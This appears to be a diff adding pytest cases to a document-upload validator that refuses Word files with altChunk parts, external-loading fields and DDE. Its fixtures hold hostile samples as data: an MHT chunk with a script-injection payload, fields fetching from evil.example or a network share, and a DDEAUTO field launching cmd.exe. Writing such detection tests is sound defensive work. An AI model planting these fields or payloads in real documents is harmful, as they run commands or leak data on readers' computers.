@@ -111,3 +111,155 @@ def test_an_opening_action_that_submits_a_form_names_both_reasons():
 )
 def test_a_pdf_link_that_stays_in_the_document_or_goes_to_the_web_is_accepted(action):
     assert _inspect(_link(action), "paper.pdf").file_format == "pdf"
+
+
+# Word documents: altChunk, fields that load files, parts hidden under other names.
+
+OFFICE_ADVICE = "Remove these and save the document again, or upload it as a PDF."
+ALT_CHUNK = ("docx_alt_chunk", "The document includes content from another file (altChunk).")
+INCLUDE_PICTURE = (
+    "docx_include_picture",
+    "The document contains a field that loads an external file (INCLUDEPICTURE).",
+)
+INCLUDE_TEXT = ("docx_include_text", "The document contains a field that loads an external file (INCLUDETEXT).")
+LINK_FIELD = ("docx_link_field", "The document contains a field that loads an external file (LINK).")
+EXTERNAL_CONTENT = ("docx_external_content", "The document loads content from outside it.")
+DDE = ("docx_dde", "The document contains a DDE field or link, which can run commands on the reader's computer.")
+EMBEDDED_MACROS = (
+    "docx_embedded_macros",
+    "The document contains an embedded file with macros, such as a chart's workbook.",
+)
+HEADER_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+MHT = (
+    b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
+    b"<html><body><img src=x onerror=alert(1)><script>alert(1)</script></body></html>"
+)
+
+
+def _header(body: str) -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<w:hdr xmlns:w="{files.W_NS}" xmlns:r="{files.R_NS}">{body}</w:hdr>'
+    ).encode()
+
+
+def _simple_field(instruction: str) -> str:
+    instruction = instruction.replace('"', "&quot;")
+    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
+
+
+@pytest.mark.parametrize(
+    ("data", "reasons"),
+    [
+        pytest.param(
+            files.docx_bytes(
+                body='<w:altChunk r:id="rId10"/>',
+                document_rels=(("aFChunk", "afchunk.mht", ""),),
+                parts=(("word/afchunk.mht", MHT),),
+                content_types='<Default Extension="mht" ContentType="message/rfc822"/>',
+            ),
+            [ALT_CHUNK],
+            id="alt-chunk-of-mht",
+        ),
+        pytest.param(
+            # The part alone, referenced by a relationship: refused even without the element.
+            files.docx_bytes(document_rels=(("aFChunk", "chunk.rtf", ""),), parts=(("word/chunk.rtf", b"{\\rtf1 x}"),)),
+            [ALT_CHUNK],
+            id="alt-chunk-relationship",
+        ),
+        pytest.param(
+            files.docx_bytes(document_rels=(("aFChunk", "https://evil.example/chunk.html", "External"),)),
+            [ALT_CHUNK],
+            id="alt-chunk-from-an-address",
+        ),
+        pytest.param(
+            files.docx_bytes(
+                body=files.docx_field([" INCLUDE", 'PICTURE "https://evil.example/pixel.png" \\d ']),
+            ),
+            [INCLUDE_PICTURE],
+            id="includepicture-split-over-runs",
+        ),
+        pytest.param(
+            files.docx_bytes(body=_simple_field(' includePicture "\\\\evil.example\\share\\logo.png" ')),
+            [INCLUDE_PICTURE],
+            id="includepicture-simple-field-any-case",
+        ),
+        pytest.param(
+            files.docx_bytes(body=_simple_field(' IMPORT "C:\\images\\logo.wmf" ')),
+            [INCLUDE_PICTURE],
+            id="import-older-name",
+        ),
+        pytest.param(
+            files.docx_bytes(body=files.docx_field([" INCLUDETEXT ", '"C:\\\\secret\\\\notes.docx" ', "\\! "])),
+            [INCLUDE_TEXT],
+            id="includetext",
+        ),
+        pytest.param(
+            files.docx_bytes(body=_simple_field(' INCLUDE "https://evil.example/chapter.docx" ')),
+            [INCLUDE_TEXT],
+            id="include-older-name",
+        ),
+        pytest.param(
+            files.docx_bytes(
+                body=files.docx_field([" LI", 'NK Excel.Sheet.12 "C:\\\\data\\\\figures.xlsx" ', "Sheet1!R1C1 \\a "])
+            ),
+            [LINK_FIELD],
+            id="link-split-over-runs",
+        ),
+        pytest.param(
+            files.docx_bytes(body=_simple_field(' DATABASE \\d "C:\\data\\people.mdb" \\s "SELECT * FROM t" ')),
+            [EXTERNAL_CONTENT],
+            id="database",
+        ),
+        pytest.param(
+            files.docx_bytes(
+                body=files.docx_field([" INCLUDEPICTURE ", '"https://evil.example/a.png"'])
+                + _simple_field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')
+                + '<w:altChunk r:id="rId10"/>',
+                document_rels=(("aFChunk", "afchunk.mht", ""),),
+                parts=(("word/afchunk.mht", MHT),),
+            ),
+            [DDE, ALT_CHUNK, INCLUDE_PICTURE],
+            id="several-reasons-in-order",
+        ),
+        pytest.param(
+            # A header part named .bin: Word reads it as XML because the content types say so.
+            files.docx_bytes(
+                parts=(("word/header1.bin", _header('<w:altChunk r:id="rId1"/>')),),
+                content_types=f'<Override PartName="/word/header1.bin" ContentType="{HEADER_CONTENT_TYPE}"/>',
+            ),
+            [ALT_CHUNK],
+            id="alt-chunk-in-a-part-with-another-extension",
+        ),
+        pytest.param(
+            files.docx_bytes(
+                parts=(("custom/header1.xml", _header(_simple_field(' INCLUDETEXT "C:\\x.docx" '))),),
+                content_types=f'<Override PartName="/custom/header1.xml" ContentType="{HEADER_CONTENT_TYPE}"/>',
+            ),
+            [INCLUDE_TEXT],
+            id="field-in-a-part-outside-the-word-folder",
+        ),
+    ],
+)
+def test_a_word_document_that_loads_another_file_is_refused(data, reasons):
+    assert _refusal(data, "paper.docx") == [*reasons, ("docx_active_content", OFFICE_ADVICE)]
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        # The words alone, in the text or as a bookmark's name, are not fields.
+        pytest.param(files.docx_bytes("Use INCLUDEPICTURE, INCLUDETEXT and LINK fields with care"), id="text"),
+        pytest.param(files.docx_bytes(body=files.docx_field([" REF LINK_to_annex \\h "])), id="ref-field"),
+        pytest.param(files.docx_bytes(body=_simple_field(' TOC \\o "1-3" \\h ')), id="table-of-contents"),
+        pytest.param(
+            files.docx_bytes(
+                parts=(("word/header1.xml", _header("<w:p><w:r><w:t>Draft</w:t></w:r></w:p>")),),
+                content_types=f'<Override PartName="/word/header1.xml" ContentType="{HEADER_CONTENT_TYPE}"/>',
+            ),
+            id="header",
+        ),
+    ],
+)
+def test_a_word_document_with_ordinary_fields_is_accepted(data):
+    assert _inspect(data, "paper.docx").file_format == "docx"
